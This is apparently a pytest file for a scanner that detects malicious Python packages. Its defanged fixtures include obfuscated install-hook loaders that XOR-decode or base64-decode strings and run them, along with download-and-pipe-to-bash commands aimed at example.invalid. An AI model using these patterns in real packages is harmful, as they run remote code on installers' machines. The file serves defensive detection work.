"""Decoding the scanner follows beyond a literal call: strings built in a loop, local
decoder functions, printf-style commands, and tokens of a package's own methods
(defanged fixtures: nothing here is run)."""

from __future__ import annotations

from detector.code.analyze import analyze
from detector.code.invariance import rename_functions
from detector.code.pyast import _percent_format


def rules(files: dict[str, str]) -> set[str]:
    return {f.rule for f in analyze(files).findings}


XOR_LOOP = '''
from setuptools.command.install import install
class InstallCommand(install):
    def run(self):
        data, key, out = "]]E]JE", "4052", ""
        for i in range(len(data)):
            out += chr(ord(data[i]) ^ ord(key[i % len(key)]))
        eval(compile(out, "<string>", "exec"))
'''

ORDINARY_LOOP = '''
def banner(words):
    out = ""
    for w in words:
        out += w.upper()
    eval(compile(out, "<string>", "eval"))
'''


def test_string_decoded_in_a_loop_then_executed_is_decode_exec():
    assert "decode-exec" in rules({"setup.py": XOR_LOOP})
    assert "decode-exec" not in rules({"setup.py": ORDINARY_LOOP})


LOCAL_DECODER = '''
import subprocess, base64
def decode_str(encoded):
    raw = base64.b64decode(encoded)
    return raw.decode("utf-8")
def processing():
    command = [decode_str("Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94LnNoIHwgYmFzaA==")]
    subprocess.Popen(command, shell=True)
processing()
'''

LOCAL_DECODER_BENIGN = '''
import subprocess, base64
def decode_str(encoded):
    return base64.b64decode(encoded).decode("utf-8")
def processing():
    command = [decode_str("bWFrZSBhbGw="), "-j2"]
    subprocess.Popen(command)
'''


def test_a_local_decoder_function_folds_like_the_inline_call():
    assert "shell-download-exec" in rules({"pkg/__init__.py": LOCAL_DECODER})
    found = rules({"pkg/__init__.py": LOCAL_DECODER_BENIGN})
    assert "process-spawn" in found and "shell-download-exec" not in found


PERCENT_PIPE = '''
import os, base64
shell = "wget -qO - https://example.invalid/x.sh | bash"
encoded = base64.b64encode(shell)
os.system("echo %s|base64 -d|bash" % encoded)
'''

PERCENT_BENIGN = '''
import os
def build(target):
    os.system("make %s -j%d" % (target, 2))
'''


def test_printf_formatted_commands_are_folded():
    assert "shell-download-exec" in rules({"setup.py": PERCENT_PIPE})
    assert "shell-download-exec" not in rules({"setup.py": PERCENT_BENIGN})


def test_percent_format_on_text():
    assert _percent_format("a %s b %-3d c %% d %(x)s e %q", ["1", "2"]) == "a 1 b 2 c % d {} e %q"
    assert _percent_format("%", []) == "%"


PKG = {
    "pkg/__init__.py": "from . import tools\ntools.fetch_conf()\n",
    "pkg/tools.py": "import os\n\ndef fetch_conf():\n    return os.getcwd()\n",
}


def test_method_named_like_a_package_function_is_a_local_call():
    tokens = analyze(PKG).tokens
    assert "hot|c:_" in tokens and not [t for t in tokens if "fetch_conf" in t]
    renamed = rename_functions(PKG)
    assert sorted(analyze(renamed).tokens) == sorted(tokens)


def test_prose_is_not_a_high_entropy_literal_but_packed_words_are():
    """A docstring stripped of spaces has the entropy of packed data; prose is exempt,
    base64 cut into space-separated words or 76-character lines is not."""
    import base64
    import random

    from detector.code.decode import looks_like_prose

    prose = ("Return the weighted 95th-percentile latency (ms) of a job's runs, grouped by "
             "region: `jobs` maps IDs to Run objects; raises KeyError if a run is missing.")
    assert looks_like_prose(prose)
    blob = base64.b64encode(random.Random(0).randbytes(900)).decode()
    for sep, width in ((" ", 8), (" ", 4), ("\n", 76)):
        packed = sep.join(blob[i:i + width] for i in range(0, len(blob), width))
        assert not looks_like_prose(packed)
        found = analyze({"setup.py": f"x = '''{packed}'''\n"}).findings
        assert any(f.rule == "high-entropy-literal" for f in found), (sep, width)
    doc = analyze({"m/__init__.py": f"def f():\n    '''{prose * 3}'''\n"}).findings
    assert not any(f.rule == "high-entropy-literal" for f in doc)


def test_shell_command_decoded_or_downloaded_at_run_time_is_a_payload_run():
    """`os.system(b64decode(resp.text).decode())` runs a decoded payload as `exec` would."""
    def rules(src: str) -> set[str]:
        return {f.rule for f in analyze({"setup.py": src}).findings}

    assert "decode-exec" in rules(
        "import os, base64, requests\nr = requests.get('https://example.invalid/x')\n"
        "os.system(base64.b64decode(r.text).decode('utf-8'))\n")
    assert "decode-exec" in rules(
        "import subprocess, base64\nsubprocess.Popen(base64.b64decode(c), shell=True)\n")
    assert "remote-code-exec" in rules(
        "import os, requests\nos.system(requests.get('https://example.invalid/x').text)\n")
    benign = rules("import os, subprocess\ncmd = 'echo ' + name\nos.system(cmd)\n"
                   "os.system('git describe'.encode().decode())\n"
                   "out = subprocess.run(['git', 'log'], capture_output=True).stdout.decode()\n")
    assert not benign & {"decode-exec", "remote-code-exec"}
